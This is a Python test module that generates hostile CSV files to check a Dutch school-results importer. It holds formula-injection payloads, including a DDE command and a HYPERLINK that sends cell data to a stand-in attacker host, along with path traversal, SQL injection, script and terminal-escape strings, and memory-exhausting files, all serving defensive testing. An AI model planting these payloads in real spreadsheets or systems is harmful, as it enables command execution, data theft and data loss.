"""Attacks that are CSV files: formulas, encodings, shapes and values that nobody exports."""

import codecs

from attack import NAME, NUMBER, PUPILS, Attack, Maker, Where, always, each, export, files, joined, numo, varied
from conftest import EXPORT_HEADER, eck_id, row

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line feed": "\n=1+1",
    "space before": " =1+1",
    "zero width before": "\u200b=1+1",
    "no-break space before": "\u00a0=1+1",
    "byte order mark before": "\ufeff=1+1",
    "full width": "\uff1d1+1",
    "dde": "=cmd|' /C calc'!A0",
    "minus dde": "-2+3+cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://aanval.example?x="&A1)',
    "quoted": '"=1+1"',
    "number that is none": "-1,5,5",
    "apostrophe and equals": "'=1+1",
    "separator inside": "a;=1+1",
}
_COLUMNS = ("leerlingnummer", "eck", "key", "klas", "toets", "toetsniveau", "onderdeel", "day", "fn")
IDS = {
    "zero width": "\u200b00\u200d11\ufeff",
    "soft hyphen": "00\u00ad11",
    "arabic digits": "\u0660\u0660\u0661\u0661",
    "full-width digits": "\uff10\uff10\uff11\uff11",
    "mathematical digits": "\U0001d7ce\U0001d7ce\U0001d7cf\U0001d7cf",
    "superscript digits": "\u2070\u2070\u00b9\u00b9",
    "digits with a keycap": "0\ufe0f\u20e30\ufe0f\u20e31\ufe0f\u20e31\ufe0f\u20e3",
    "letter o for zero": "OO11",
    "cyrillic o for zero": "\u043e\u043e11",
    "right to left override": "\u202e1100",
    "isolates": "\u2066\u20670011\u2069",
    "combining marks": "0" + "\u0301" * 500,
    "escape sequence": "\x1b[31m0011\x1b[0m",
    "terminal title": "\x1b]0;weg\x07",
    "c1 control": "\x9b31m0011",
    "backspaces": "0011\x08\x08\x08",
    "delete": "00\x7f11",
    "line separator": "00\u202811",
    "next line": "00\x8511",
    "negative": "-11",
    "zero": "0",
    "decimal": "11.0",
    "power": "1,1E+01",
    "large power": "1e999",
    "not a number": "NaN",
    "infinity": "Infinity",
    "none": "None",
    "null": "null",
    "true": "TRUE",
    "error of a spreadsheet": "#REF!",
    "hashes": "####",
    "path": "../../../../etc/passwd",
    "sql": "0011'); DROP TABLE leerplannen;--",
    "percent": "%s%n%d",
    "braces": "{0}{name}{0.__class__}",
    "markup": "[bold red]0011[/]",
    "html": "<script>alert(1)</script>",
    "backslashes": "\\0\\x00\\u0000",
    "quotes": "'\"`",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "noncharacter": "\uffff\ufffe\U0010ffff",
    "private use": "\ue000\U000f0000",
    "very long": "9" * 100_000,
    "very long word": "a" * 120_000,
    "replacement": "\ufffd" * 12,
}
DATES = {
    "day that is none": "31-02-2026",
    "leap day that is none": "29-02-2026",
    "zeros": "00-00-0000",
    "zeros iso": "0000-00-00",
    "year 99999": "01-01-99999",
    "year 1": "01-01-0001",
    "year 1899": "31-12-1899",
    "last year": "31-12-9999",
    "last year iso": "9999-12-31T23:59:59.999999Z",
    "negative year": "-2026-01-01",
    "two digits": "06-10-26",
    "arabic digits": "\u0660\u0666-\u0661\u0660-\u0662\u0660\u0662\u0666",
    "full-width digits": "\uff10\uff16-10-2026",
    "serial number": "46301",
    "large number": "1e308",
    "not a number": "nan",
    "time that is none": "06-10-2026 99:99",
    "zone that is none": "2026-10-06T00:00:00+99:99",
    "month first": "10-13-2026",
    "only separators": "--",
    "very long": "06-10-2026" + " " * 100_000 + "x",
    "many fractions": "2026-10-06T00:00:00." + "9" * 100_000,
}
LEVELS = {
    "very long": "havo" * 20_000,
    "slashes": "/" * 50_000,
    "ladder of slashes": "havo/vwo" * 5_000,
    "spaces": "h" + " " * 100_000 + "avo",
    "long s": "vm\u0062o-bb\u017f",
    "dotted i": "\u0130",
    "escape": "\x1b[2Jhavo",
    "braces": "{havo}",
    "regular expression": "(a+)+$",
    "control characters": "ha\x00vo\x01",
}
ECK_IDS = {
    "capitals": eck_id(1).upper(),
    "http": eck_id(1).replace("https", "http"),
    "no scheme": eck_id(1).removeprefix("https://"),
    "line end": f'"{eck_id(1)}\n"',
    "percent": eck_id(1).replace("ketenid", "keten%69d"),
    "other year": eck_id(1).replace("201703", "999999"),
    "stampseudoniem": "https://ketenid.nl/sppilot/" + "a" * 128,
    "demo": "eckid_L000012",
    "full width": "\uff48\uff54\uff54\uff50\uff53://ketenid.nl/201703/" + "0" * 128,
    "very long": "https://ketenid.nl/" + "f" * 100_000,
    "script": "javascript://ketenid.nl/%0aalert(1)",
    "only the host": "https://ketenid.nl/",
    "two": f"{eck_id(1)} {eck_id(2)}",
    "nul": eck_id(1) + "\x00",
}
_OF_A_PUPIL = row(NUMBER, fn="vmbo-kb")


def _in_each_column(value: str) -> bytes:
    quoted = '"' + value.replace('"', '""') + '"'
    return export(*(row(**{"leerlingnummer": NUMBER, column: quoted}) for column in _COLUMNS))


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


_FORMULAS = {f"formula {name}": make for name, make in varied(FORMULAS, _in_each_column).items()}
_LISTED_FORMULAS = {
    f"formula {name}": make
    for name, make in varied(
        FORMULAS,
        lambda text: (
            numo(f"{_quoted(text)};;{_quoted(text)}", good=False)
            + numo(*(f"{pupil};;{_quoted(text)}" for pupil in PUPILS), good=False).partition(b"\r\n")[2]
        ),
    ).items()
}
_IDS = {f"number {name}": make for name, make in varied(IDS, lambda text: export(row(_quoted(text)), row(key=_quoted(text)))).items()}
_LISTED_IDS = {f"number {name}": make for name, make in varied(IDS, lambda text: numo(f"{_quoted(text)};;{_quoted(text)}")).items()}
_DATES = {f"date {name}": make for name, make in varied(DATES, lambda text: export(row(NUMBER, day=_quoted(text)))).items()}
_LEVELS = {
    f"level {name}": make
    for name, make in varied(
        LEVELS, lambda text: export(row(NUMBER, toetsniveau=_quoted(text)), row(NUMBER, toets="T2", fn=_quoted(text)))
    ).items()
}
_ECK_IDS = {f"eck id {name}": make for name, make in varied(ECK_IDS, lambda text: export(row(NUMBER, text), row("", text))).items()}
_MISPLACED = {
    f"eck id in {column}": make
    for column in _COLUMNS
    if column != "eck"
    for make in varied({column: column}, lambda name: export(row(**{"leerlingnummer": NUMBER, name: eck_id(7)}))).values()
}
_MISPLACED["eck id in the header"] = lambda: export(_OF_A_PUPIL + ";x", header=f"{EXPORT_HEADER};{eck_id(7)}")
_MISPLACED["name in the header"] = lambda: export(row(NUMBER), header=f"{EXPORT_HEADER};{NAME}")
_MISPLACED["pupil for a header"] = always(f"{NUMBER};{NAME};2A;T1\r\n{NUMBER};{NAME};2A;T2\r\n")
_MISPLACED["only names"] = always(f"{NAME};{NAME}\r\n{NAME};{NAME}\r\n")

_GOOD = export(_OF_A_PUPIL)
_ENCODINGS = {
    "nothing": b"",
    "only a byte order mark": codecs.BOM_UTF8,
    "only a utf-16 byte order mark": codecs.BOM_UTF16_LE,
    "half a utf-16 byte order mark": b"\xff",
    "only nuls": bytes(10_000),
    "utf-8 with two byte order marks": codecs.BOM_UTF8 * 2 + _GOOD,
    "utf-16 little": codecs.BOM_UTF16_LE + _GOOD.decode().encode("utf-16-le"),
    "utf-16 big": codecs.BOM_UTF16_BE + _GOOD.decode().encode("utf-16-be"),
    "utf-16 with an odd byte": codecs.BOM_UTF16_LE + _GOOD.decode().encode("utf-16-le") + b"x",
    "utf-16 with half a pair": codecs.BOM_UTF16_LE + _GOOD.decode().encode("utf-16-le") + b"\x00\xd8",
    "utf-16 that is utf-8": codecs.BOM_UTF16_LE + _GOOD,
    "utf-16 without a mark": _GOOD.decode().encode("utf-16-le"),
    "utf-16 big without a mark": _GOOD.decode().encode("utf-16-be"),
    "utf-16 from the middle on": _GOOD + _OF_A_PUPIL.encode("utf-16-le"),
    "utf-32": _GOOD.decode().encode("utf-32"),
    "utf-32 big": codecs.BOM_UTF32_BE + _GOOD.decode().encode("utf-32-be"),
    "utf-32 without a mark": _GOOD.decode().encode("utf-32-le"),
    "utf-7": b"+/v8-" + _GOOD.decode().encode("utf-7"),
    "utf-1": b"\xf7\x64\x4c" + _GOOD,
    "utf-ebcdic": b"\xdd\x73\x66\x73" + _GOOD.decode().encode("cp500"),
    "ebcdic": _GOOD.decode().encode("cp500"),
    "scsu": b"\x0e\xfe\xff" + _GOOD,
    "gb 18030": b"\x84\x31\x95\x33" + _GOOD.decode().encode("gb18030"),
    "shift jis": export(row(NUMBER, klas="\u30af\u30e9\u30b9"), encoding="shift_jis"),
    "latin-1": export(row(NUMBER, klas="\u00e92A"), encoding="latin-1"),
    "bytes that windows-1252 lacks": _GOOD.replace(b"2A", b"\x81\x8d\x8f\x90\x9d"),
    "overlong utf-8": _GOOD.replace(b"2A", b"\xc0\xaf\xe0\x80\xaf"),
    "surrogates in utf-8": _GOOD.replace(b"2A", b"\xed\xa0\x80\xed\xb0\x80"),
    "utf-8 beyond unicode": _GOOD.replace(b"2A", b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80"),
    "utf-8 that is cut": _GOOD + b"\xe2\x82",
    "byte order mark in the middle": _GOOD.replace(b"2A", codecs.BOM_UTF8),
    "nul in each cell": _GOOD.replace(b";", b"\0;"),
    "nul in the header": _GOOD.replace(b"Klas", b"Kl\0as"),
    "every byte": bytes(range(256)) * 20,
    "every byte in a cell": _GOOD.replace(b"2A", bytes(byte for byte in range(256) if byte not in b'\r\n;"')),
}
_SHAPES = {
    "one nul": b"\0",
    "one quote": b'"',
    "one separator": b";",
    "one line end": b"\n",
    "one return": b"\r",
    "one byte of a zip": b"P",
    "two bytes of a zip": b"PK",
    "one byte of xml": b"<",
    "header only": EXPORT_HEADER.encode(),
    "header only with a line end": export(),
    "only separators": b";;;;;;;;;\r\n" * 100,
    "only tabs": b"\t\t\t\r\n" * 100,
    "only quotes": b'""""""\r\n' * 100,
    "only line ends": b"\r\n" * 100_000,
    "only returns": b"\r" * 100_000,
    "only spaces": b" " * 100_000,
    "lone returns": export(_OF_A_PUPIL, row("0011"), end="\r"),
    "mixed line ends": export(row(NUMBER), end="\n") + (row(NUMBER, toets="T2") + "\r" + row(NUMBER, toets="T3") + "\r\n").encode(),
    "line end lf cr": export(_OF_A_PUPIL, end="\n\r"),
    "line ends of unicode": export(_OF_A_PUPIL, end="\u2028"),
    "next lines": export(_OF_A_PUPIL, end="\x85"),
    "form feeds": export(_OF_A_PUPIL, end="\f\n"),
    "vertical tabs": export(_OF_A_PUPIL, end="\v\n"),
    "file separators": export(_OF_A_PUPIL, end="\x1c\n"),
    "header twice": export(EXPORT_HEADER, _OF_A_PUPIL),
    "header again at the end": export(_OF_A_PUPIL, EXPORT_HEADER),
    "two headers": export("gebruikersnaam;eck_id;klas", _OF_A_PUPIL),
    "header in row 31": b"x\r\n" * 30 + _GOOD,
    "each title twice": export(f"{_OF_A_PUPIL};{_OF_A_PUPIL}", header=f"{EXPORT_HEADER};{EXPORT_HEADER}"),
    "titles that differ in case": export(f"{_OF_A_PUPIL};1", header=f"{EXPORT_HEADER};LEERLINGNUMMER"),
    "titles that are empty": export(_OF_A_PUPIL, header=";" * 9),
    "title with line ends": export(_OF_A_PUPIL, header=EXPORT_HEADER.replace("Klas", '"Kl\r\nas"')),
    "title with control characters": export(_OF_A_PUPIL, header=EXPORT_HEADER.replace("Vaardigheidsscore", "\x1b[2J\x07\x08")),
    "title with braces": export(_OF_A_PUPIL, header=EXPORT_HEADER.replace("Toets;", "{toets};{0};")),
    "title that is a formula": export(_OF_A_PUPIL, header=EXPORT_HEADER.replace("Vaardigheidsscore", "=1+1")),
    "no layout with control characters": b"Leerlingnummer;\x1b]0;x\x07;[red]Klas\x9b;{0}\r\n0011;a;b;c\r\n",
    "separator that lies": b"sep=|\r\n" + _GOOD,
    "separator that is a quote": b'sep="\r\n' + _GOOD,
    "separator that is nothing": b"sep=\r\n" + _GOOD,
    "separator mixed": export(_OF_A_PUPIL, row("0011").replace(";", ","), row("0012").replace(";", "\t")),
    "separators all at once": b";,\t|" * 1000,
    "quote that opens at once": b'"' + _GOOD,
    "quote that opens in the header": export(_OF_A_PUPIL, header=EXPORT_HEADER.replace("Klas", '"Klas')),
    "quote that opens in the middle": export(_OF_A_PUPIL, row('"0011'), row("0012"), row("0013")),
    "quote that opens at the end": _GOOD + b'"',
    "quote that opens twice": export(row('"0011'), row("0012"), row('0013"'), row("0014")),
    "quote within a cell": export(row('00"11'), row('""0012'), row('"0013"x')),
    "quotes that count odd": export(row('"""0011"'), row('""""')),
    "quote that swallows a row": export(row('"0011'), row("0012").replace("2A", '2A"')),
    "quotes with backslashes": export(row('"00\\"11"'), row("0012")),
    "rows of all lengths": EXPORT_HEADER.encode() + b"".join(b"\r\n" + b"0011;" * count for count in range(200)),
    "cell of 100 kilobytes": export(row(NUMBER, klas="x" * 100_000)),
    "cell of 200 kilobytes": export(row(NUMBER, klas="x" * 200_000)),
    "quoted cell of 200 kilobytes": export(row(NUMBER, klas='"' + "x\r\n" * 70_000 + '"')),
    "title of 200 kilobytes": export(_OF_A_PUPIL, header=EXPORT_HEADER + ";" + "x" * 200_000),
    "title of words": export(_OF_A_PUPIL, header=EXPORT_HEADER + ";" + "T1 rekenen wiskunde " * 5_000),
    "title of 120 kilobytes of toetsen": export(_OF_A_PUPIL, header=EXPORT_HEADER + ";" + "toets 1 " * 15_000),
    "wide with the same column a hundred times": b"Leerlingnummer" + b";T1 rekenen FN" * 100 + b"\r\n0011" + b";havo" * 100,
    "wide with unknown toetsen": ("Leerlingnummer" + "".join(f";X{n} Y{n} FN" for n in range(300)) + "\r\n0011" + ";havo" * 300).encode(),
    "web page": b"<!DOCTYPE html><html><table><tr><td>Leerlingnummer</td></tr></table></html>",
    "zip that is none": b"PK\x03\x04" + _GOOD,
    "compound file that is none": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _GOOD,
    "pdf": b"%PDF-1.7\n" + bytes(range(256)) * 10,
    "program": b"\x7fELF\x02\x01\x01" + bytes(1000),
    "json": b'[{"Leerlingnummer": "0011"}]',
    "the same row ten thousand times": export(*[_OF_A_PUPIL] * 10_000),
}


def _wide_table(columns: int) -> bytes:
    header = ";".join(f"kolom {number}" for number in range(columns))
    return f"{EXPORT_HEADER};{header}\r\n{_OF_A_PUPIL}{';1' * columns}\r\n".encode()


_HEAVY: dict[str, Maker] = {
    "field of 50 megabytes": lambda: export(row(NUMBER, klas="x" * (50 << 20))),
    "quoted field of 50 megabytes": lambda: export(row(NUMBER, klas='"' + "x\r\n" * (17 << 20) + '"')),
    "title of 50 megabytes": lambda: export(_OF_A_PUPIL, header=f"{EXPORT_HEADER};{'x' * (50 << 20)}"),
    "a million columns": lambda: _wide_table(1_000_000),
    "a hundred thousand columns": lambda: _wide_table(100_000),
    "a row of a million separators": lambda: export(_OF_A_PUPIL, ";" * 1_000_000),
    "thirty rows of 30,000 separators": lambda: b"x" + (b";" * 30_000 + b"x\r\n") * 30 + _GOOD,
    "thirty rows of 100,000 cells": lambda: (b"x;" * 100_000 + b"\r\n") * 30,
    "a million separators at once": lambda: b"x" + b";" * 1_000_000,
    "a million separators of each kind": lambda: b"x" + b";,\t|" * 1_000_000,
    "titles of toetsen without end": lambda: export(_OF_A_PUPIL, header=";".join([EXPORT_HEADER, *["T1 lezen " * 20] * 20_000])),
    "ten million line ends": lambda: _GOOD + b"\n" * 10_000_000,
    "ten million returns": lambda: _GOOD + b"\r" * 10_000_000 + b'"',
    "a million rows of a quote": lambda: _GOOD + b'"\n' * 1_000_000,
    "a million rows of two quotes": lambda: _GOOD + b'""\r\n' * 1_000_000,
    "fifty megabytes of quotes": lambda: b'"' * (50 << 20),
    "fifty megabytes of nuls": lambda: bytes(50 << 20),
    "fifty megabytes of nuls behind an export": lambda: _GOOD + b"x" + bytes(50 << 20),
    "three hundred thousand rows": lambda: export(*(row(f"9{number:06}") for number in range(300_000))),
    "rows that differ in all": lambda: export(
        *(row(str(n), klas=str(n), toets=f"t{n}", onderdeel=f"o{n}", toetsniveau=f"l{n}", fn=f"f{n}") for n in range(100_000))
    ),
}


def attacks() -> list[Attack]:
    """All that are tables of text."""
    of_results = _FORMULAS | _IDS | _DATES | _LEVELS | _ECK_IDS | _MISPLACED | each(_ENCODINGS) | each(_SHAPES)
    as_a_list = {
        **_LISTED_FORMULAS,
        **_LISTED_IDS,
        **{f"list {name}": make for name, make in each(_ENCODINGS).items()},
        "header only": lambda: numo(good=False),
        "without gebruikersnaam": always(b"naam;klas\r\n" + f"{NAME};2A\r\n".encode()),
        "pupil for a header": always(f"{NUMBER};{NAME}\r\n{NUMBER};{NAME}\r\n"),
        "gebruikersnaam twice": always(b"gebruikersnaam;Gebruikersnaam\r\n0011;0012\r\n"),
        "everybody twice": lambda: numo(*(f"{pupil};;2B" for pupil in PUPILS)),
        "everybody the same": lambda: numo(*["0011;;2A"] * 1000, good=False),
        "everybody with one eck id": lambda: numo(*(f"{pupil};{eck_id(1)};2A" for pupil in PUPILS), good=False),
        "nobody": lambda: numo(*[";;"] * 100, good=False),
        "names beside": lambda: numo(f"{NUMBER};;2A;{NAME}"),
        "quote that opens": lambda: numo('"0099;;2A'),
        "rows of all lengths": lambda: numo(*("0099" + ";x" * count for count in range(100))),
    }
    return joined(
        files(Where.CITO, ".csv", of_results),
        files(Where.NUMO, ".csv", as_a_list),
        files(Where.CITO, ".csv", _HEAVY, heavy=True),
        files(
            Where.NUMO,
            ".csv",
            {
                "list of a million columns": lambda: b"gebruikersnaam" + b";x" * 1_000_000 + b"\r\n0011\r\n",
                "list of a million pupils": lambda: numo(*(f"9{number:07};;2A" for number in range(1_000_000))),
                "list with a field of 50 megabytes": lambda: numo(f"0099;;{'x' * (50 << 20)}"),
            },
            heavy=True,
        ),
    )
